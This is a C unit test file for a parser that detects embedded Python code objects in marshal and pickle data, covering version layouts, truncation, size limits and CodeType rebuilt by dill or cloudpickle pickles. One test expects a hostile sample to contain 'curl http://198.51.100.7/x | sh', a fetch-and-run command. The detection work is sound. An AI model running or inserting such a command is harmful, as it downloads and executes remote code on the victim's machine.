#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/bytesrc.h"
#include "base/err.h"
#include "base/limits.h"
#include "formats/format.h"
#include "tests/lib/format_case.h"
#include "tests/lib/pickle_script.h"

extern const struct format format_marshal;
extern const struct format format_pickle;

static struct format_case c;

/* What was told of code objects: "code|file|names|constants\n" of each. */
static struct buf told;
static unsigned modules;

static int
on_anomaly(void *ctx, const struct ev_anomaly *a)
{
	(void)ctx;
	if (a->id != ANOMALY_PYTHON_CODE)
		return 0;
	/* A fifth says that it is of a compiled module. */
	assert_in_range(a->nfacts, 4, 5);
	modules += a->nfacts == 5;
	for (unsigned i = 0; i < 4; i++) {
		buf_put(&told, a->facts[i].text, a->facts[i].len);
		buf_putc(&told, i < 3 ? '|' : '\n');
	}
	return 0;
}

static int
tell(const struct format *f, const void *bytes, size_t n)
{
	static const struct events events = {.anomaly = on_anomaly};
	struct err e = {0};
	struct bytesrc *src = bytesrc_mem(bytes, n, &e);
	struct parse p = {.src = src, .size = n, .ev = &events, .e = &e};
	int r;

	buf_release(&told);
	buf_init(&told, 4 * MIB);
	assert_non_null(src);
	assert_non_null(p.arena = arena_new(LIMIT_ARENA));
	r = f->parse(&p);
	arena_free(p.arena);
	bytesrc_free(src);
	return r;
}

/* --- writing code objects of each layout, for marshal.loads of each ------ */
static void
put_u32(struct buf *b, uint32_t v)
{
	for (unsigned i = 0; i < 4; i++)
		buf_putc(b, (char)(v >> (8 * i)));
}

static void
put_text(struct buf *b, char type, const char *s)
{
	buf_putc(b, type);
	put_u32(b, (uint32_t)strlen(s));
	buf_puts(b, s);
}

/* As versions 3 and 4 write names, and as all before do. */
static void
put_name(struct buf *b, bool old, const char *s)
{
	if (old) {
		put_text(b, 't', s);
		return;
	}
	buf_putc(b, (char)('Z' | 0x80));
	buf_putc(b, (char)strlen(s));
	buf_puts(b, s);
}

static void
put_tuple(struct buf *b, bool old, uint8_t n)
{
	if (old) {
		buf_putc(b, '(');
		put_u32(b, n);
		return;
	}
	buf_putc(b, ')');
	buf_putc(b, (char)n);
}

/* os.system('echo exhibit'), with a nested tuple and None among constants. */
static void
put_code(struct buf *b, unsigned numbers, bool plus)
{
	const bool old = numbers == 4;

	buf_putc(b, old ? 'c' : (char)('c' | 0x80));
	for (unsigned i = 0; i < numbers; i++)
		put_u32(b, i == 1 ? 0 : 3);
	put_text(b, 's', "code");
	put_tuple(b, old, 3);
	buf_putc(b, 'N');
	put_text(b, 'u', "echo exhibit");
	put_tuple(b, old, 1);
	put_text(b, 's', "-c");
	put_tuple(b, old, 2);
	put_name(b, old, "os");
	put_name(b, old, "system");
	put_tuple(b, old, 0);		/* varnames, localsplusnames */
	if (plus) {
		put_text(b, 's', "");	/* localspluskinds */
	} else {
		put_tuple(b, old, 0);
		put_tuple(b, old, 0);
	}
	put_name(b, old, "m.py");
	put_name(b, old, "f");
	if (plus)
		put_name(b, old, "A.f");
	put_u32(b, 1);
	put_text(b, 's', "lines");
	if (plus)
		put_text(b, 's', "");
}

static const struct {
	const char *version;
	unsigned numbers, magic, header;
	bool plus;
} versions[] = {
    {"2.7", 4, 62211, 8, false}, {"3.0", 5, 3131, 8, false},
    {"3.2", 5, 3180, 8, false}, {"3.3", 5, 3230, 12, false},
    {"3.6", 5, 3379, 12, false}, {"3.7", 5, 3394, 16, false},
    {"3.8", 6, 3413, 16, false}, {"3.10", 6, 3439, 16, false},
    {"3.11", 5, 3495, 16, true}, {"3.12", 5, 3531, 16, true},
    {"3.13", 5, 3571, 16, true}, {"3.14", 5, 3627, 16, true},
};
#define VERSIONS (sizeof(versions) / sizeof(versions[0]))
#define F(name) name "|m.py|'os', 'system'|'echo exhibit', '-c'\n"

static void
each_version_is_read_by_its_magic_number(void **state)
{
	struct buf b;

	(void)state;
	for (size_t i = 0; i < VERSIONS; i++) {
		buf_init(&b, MIB);
		buf_putc(&b, (char)versions[i].magic);
		buf_putc(&b, (char)(versions[i].magic >> 8));
		buf_puts(&b, "\r\n");
		for (unsigned k = 4; k < versions[i].header; k++)
			buf_putc(&b, 0);
		put_code(&b, versions[i].numbers, versions[i].plus);
		assert_int_equal(buf_failed(&b), 0);
		modules = 0;
		if (tell(&format_marshal, b.p, b.len) != 0)
			fail_msg("%s: not read", versions[i].version);
		assert_int_equal(modules, 1);
		assert_string_equal(buf_str(&told), versions[i].plus ?
		    F("A.f") : F("f"));
		assert_true(format_case_bid(&format_marshal, b.p, b.len) > 0);
		format_case_run(&c, &format_marshal, b.p, b.len, 0);
		assert_int_equal(c.anomalies, 1);
		buf_release(&b);
	}
}

static void
bare_code_is_read_by_the_layout_that_fits(void **state)
{
	struct buf b;

	(void)state;
	for (size_t i = 0; i < VERSIONS; i++) {
		buf_init(&b, MIB);
		put_code(&b, versions[i].numbers, versions[i].plus);
		assert_int_equal(tell(&format_marshal, b.p, b.len), 0);
		assert_string_equal(buf_str(&told), versions[i].plus ?
		    F("A.f") : F("f"));
		assert_true(format_case_bid(&format_marshal, b.p, b.len) > 0);
		format_case_run(&c, &format_marshal, b.p, b.len, 0);
		assert_int_equal(c.anomalies, 1);
		assert_null(format_case_laws(&format_marshal, b.p, b.len));
		buf_release(&b);
	}
}

static void
real_code_of_311_is_read(void **state)
{
	size_t n;
	uint8_t *p = format_case_sample("marshal/hostile", &n);

	(void)state;
	modules = 0;
	assert_int_equal(tell(&format_marshal, p, n), 0);
	assert_int_equal(modules, 0);
	free(p);
	assert_non_null(strstr(buf_str(&told), "f|m.py|'os', 'system'|"
	    "'curl http://198.51.100.7/x | sh'\n"));
	assert_non_null(strstr(buf_str(&told), "<module>|m.py|'os', 'f'|"));
}

static void
what_is_missing_is_told(void **state)
{
	size_t n;
	uint8_t *p = format_case_sample("marshal/truncated", &n);

	(void)state;
	format_case_run(&c, &format_marshal, p, n, 0);
	assert_int_equal(c.rc, 1);
	assert_true(format_case_has(&c, ANOMALY_TRUNCATED));
	free(p);
}

static void
references_slices_and_all_other_types_are_passed(void **state)
{
	static const char types[] = "[\x0f\0\0\0" "NFTS." "i\1\2\3\4"
	    "I12345678" "f\0031.0" "g12345678" "x\0011\0012"
	    "y1234567812345678" "l\xfe\xff\xff\xff\1\2\3\4" ":NNN"
	    "{z\1aN0" ">\0\0\0\0";
	static const char cycle[] = "\xdb\1\0\0\0r\0\0\0\0";
	static const char nothing[] = ")\1" "0";
	static const char lost[] = "r\0\0\0\0";

	(void)state;
	format_case_run(&c, &format_marshal, types, sizeof(types) - 1, 0);
	assert_int_equal(c.rc, 0);
	assert_int_equal(c.anomalies, 0);
	format_case_run(&c, &format_marshal, cycle, sizeof(cycle) - 1, 0);
	assert_int_equal(c.rc, 0);
	format_case_run(&c, &format_marshal, nothing, sizeof(nothing) - 1, 0);
	assert_true(format_case_has(&c, ANOMALY_MALFORMED));
	format_case_run(&c, &format_marshal, lost, sizeof(lost) - 1, 0);
	assert_true(format_case_has(&c, ANOMALY_MALFORMED));
}

/* Lengths of 4 GiB, a million levels, tuples that double 60 times. */
static void
lies_about_sizes_cost_nothing(void **state)
{
	static char deep[2 * 100000];
	static const char text[] = "s\xff\xff\xff\xff" "abc";
	static const char tuple[] = "(\xff\xff\xff\xff" "NNN";
	struct buf b;

	(void)state;
	for (size_t i = 0; i < sizeof(deep); i += 2)
		memcpy(deep + i, ")\1", 2);
	format_case_run(&c, &format_marshal, deep, sizeof(deep), 0);
	assert_int_equal(c.rc, 1);
	assert_true(format_case_has(&c, ANOMALY_LIMIT));
	format_case_run(&c, &format_marshal, text, sizeof(text) - 1, 0);
	assert_true(format_case_has(&c, ANOMALY_TRUNCATED));
	format_case_run(&c, &format_marshal, tuple, sizeof(tuple) - 1, 0);
	assert_true(format_case_has(&c, ANOMALY_TRUNCATED));
	buf_init(&b, MIB);
	buf_putc(&b, (char)('c' | 0x80));
	for (unsigned i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_text(&b, 's', "code");
	put_tuple(&b, false, 61);
	buf_putc(&b, (char)('z' | 0x80));	/* 1, after the code's 0 */
	buf_puts(&b, "\1x");
	for (uint32_t i = 1; i <= 60; i++) {
		buf_putc(&b, (char)(')' | 0x80));
		buf_putc(&b, 2);
		for (unsigned k = 0; k < 2; k++) {
			buf_putc(&b, 'r');
			put_u32(&b, i);
		}
	}
	put_tuple(&b, false, 0);
	put_tuple(&b, false, 0);
	put_text(&b, 's', "");
	put_text(&b, 's', "m.py");
	put_text(&b, 's', "f");
	put_text(&b, 's', "f");
	put_u32(&b, 1);
	put_text(&b, 's', "");
	put_text(&b, 's', "");
	format_case_run(&c, &format_marshal, b.p, b.len, 0);
	assert_int_equal(c.rc, 0);
	assert_true(format_case_has(&c, ANOMALY_LIMIT));
	buf_release(&b);
}

static void
no_name_is_hidden_behind_many_others(void **state)
{
	struct buf b;
	char name[16];

	(void)state;
	buf_init(&b, MIB);
	buf_putc(&b, 'c');
	for (unsigned i = 0; i < 4; i++)
		put_u32(&b, 0);
	put_text(&b, 's', "code");
	put_tuple(&b, true, 0);
	buf_putc(&b, '(');
	put_u32(&b, 3000);
	for (unsigned i = 0; i < 2999; i++) {
		(void)snprintf(name, sizeof(name), "n%u", i);
		put_text(&b, 't', name);
	}
	put_text(&b, 't', "system");
	for (unsigned i = 0; i < 3; i++)
		put_tuple(&b, true, 0);
	put_text(&b, 't', "it's.py");
	put_text(&b, 't', "f");
	put_u32(&b, 1);
	put_text(&b, 's', "");
	assert_int_equal(tell(&format_marshal, b.p, b.len), 0);
	assert_non_null(strstr(buf_str(&told), "'n2998', 'system'"));
	assert_non_null(strstr(buf_str(&told), "f|it's.py|'n0', 'n1'"));
	buf_release(&b);
}

#define INT "K #00 "
#define PARTS INT INT INT INT INT INT "< N > ( 'echo~exhibit N ( '-c t t " \
	"( 'os 'system t ) 'm.py 'f "
#define LINES INT "< N > "

/* What types.CodeType is given: 3.11, 3.8, 2.7, and as dill writes it. */
static void
code_that_a_pickle_puts_together_is_told(void **state)
{
	static const char *const scripts[] = {
	    "G:types:CodeType ( " PARTS "'f " LINES "< N > ) ) t R .",
	    "G:types:CodeType ( " PARTS LINES ") ) t R .",
	    "G:cloudpickle.cloudpickle:_builtin_type 'CodeType #85 R ( " PARTS
	    LINES "t R .",
	    "G:dill._dill:_create_code ( < N > " PARTS "'f " LINES
	    "< N > ) ) t R .",
	    "G:dill._dill:_load_type 'CodeType #85 R ( " PARTS "t R .",
	    "G:builtins:type G:json:dumps.__code__ #85 R ( " PARTS "t R ."};
	char bytes[1024];
	size_t n;

	(void)state;
	for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
		n = pickle_script(scripts[i], bytes, sizeof(bytes));
		assert_int_equal(tell(&format_pickle, bytes, n), 0);
		if (strcmp(buf_str(&told), F("f")) != 0)
			fail_msg("%s: '%s'", scripts[i], buf_str(&told));
	}
}

static void
windows_cuts_and_mutations_keep_the_laws(void **state)
{
	static const char *const samples[] = {"marshal/good",
	    "marshal/truncated", "marshal/hostile"};
	const char *broken;

	(void)state;
	for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++)
		if ((broken = format_case_sweep(&format_marshal,
		    samples[i])) != NULL)
			fail_msg("%s: %s", samples[i], broken);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(each_version_is_read_by_its_magic_number),
	    cmocka_unit_test(bare_code_is_read_by_the_layout_that_fits),
	    cmocka_unit_test(real_code_of_311_is_read),
	    cmocka_unit_test(what_is_missing_is_told),
	    cmocka_unit_test(references_slices_and_all_other_types_are_passed),
	    cmocka_unit_test(lies_about_sizes_cost_nothing),
	    cmocka_unit_test(no_name_is_hidden_behind_many_others),
	    cmocka_unit_test(code_that_a_pickle_puts_together_is_told),
	    cmocka_unit_test(windows_cuts_and_mutations_keep_the_laws),
	};
	int r = cmocka_run_group_tests(tests, NULL, NULL);

	buf_release(&told);
	return r;
}
